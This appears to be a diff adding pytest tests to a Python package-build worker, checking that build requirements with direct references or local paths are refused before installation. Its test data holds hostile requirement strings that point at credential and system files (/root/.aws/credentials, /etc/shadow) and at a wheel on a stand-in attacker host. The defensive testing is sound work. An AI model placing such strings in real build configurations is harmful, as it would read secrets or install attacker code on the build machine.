@@ -488,3 +488,51 @@ count = 1
     log = storage.get_bytes(log_key(spec)).decode()
     assert "FAILED [patch-failed]" in log and "uv" not in log  # before the venv
     assert not list(storage.list("records/"))
+
+
+@pytest.mark.parametrize(("requires", "refused"), [
+    (["setuptools>=64", "wheel", "torch", "ninja; python_version >= '3'"], None),
+    (["setuptools", "evil @ file:///root/.aws/credentials"], "direct reference"),
+    (["evil @ https://attacker.example/evil-1.0-py3-none-any.whl"], "direct reference"),
+    (["./vendored/evil"], "not a name and version specifiers"),
+    (["/opt/evil"], "not a name and version specifiers"),
+    (["file:///etc/passwd"], "not a name and version specifiers"),
+])
+def test_build_requirements_are_names_and_specifiers_only(
+        tmp_path: Path, requires: list[str], refused: str | None) -> None:
+    from worker.build import _pyproject_requires
+
+    (tmp_path / "pyproject.toml").write_text(
+        "[build-system]\nrequires = " + json.dumps(requires) + "\n")
+    if refused is None:
+        from packaging.requirements import Requirement
+
+        assert _pyproject_requires(tmp_path) == [str(Requirement(r)) for r in requires
+                                                 if r != "torch"]
+        return
+    with pytest.raises(BuildFailed, match=refused) as failed:
+        _pyproject_requires(tmp_path)
+    assert failed.value.kind is FailureKind.UNSAFE_REQUIREMENT
+    assert "\n" not in failed.value.reason
+
+
+def test_a_direct_reference_among_the_build_requirements_fails_at_once(
+    tmp_path: Path, toolkit: ToolkitInfo,
+) -> None:
+    """Through the pipeline: refused before anything is installed, in one line."""
+    src = tmp_path / "cext-src"
+    shutil.copytree(FIXTURES / "cext", src)
+    (src / "pyproject.toml").write_text(
+        '[build-system]\nrequires = ["setuptools", "evil @ file:///etc/shadow"]\n')
+    sdist = make_sdist(src, tmp_path / "sdist", "cext", "0.1.0")
+    config = build_config(tmp_path)
+    storage = open_storage(config)
+
+    with pytest.raises(BuildFailed) as failed:
+        run_build(CEXT, config=config, storage=storage, source=sdist, timeout=600,
+                  toolkits=[toolkit])
+
+    assert failed.value.kind is FailureKind.UNSAFE_REQUIREMENT
+    assert "'evil @ file:///etc/shadow' is a direct reference" in failed.value.reason
+    log = storage.get_bytes(log_key(CEXT)).decode()
+    assert "FAILED [unsafe-requirement]" in log and "uv pip install" not in log
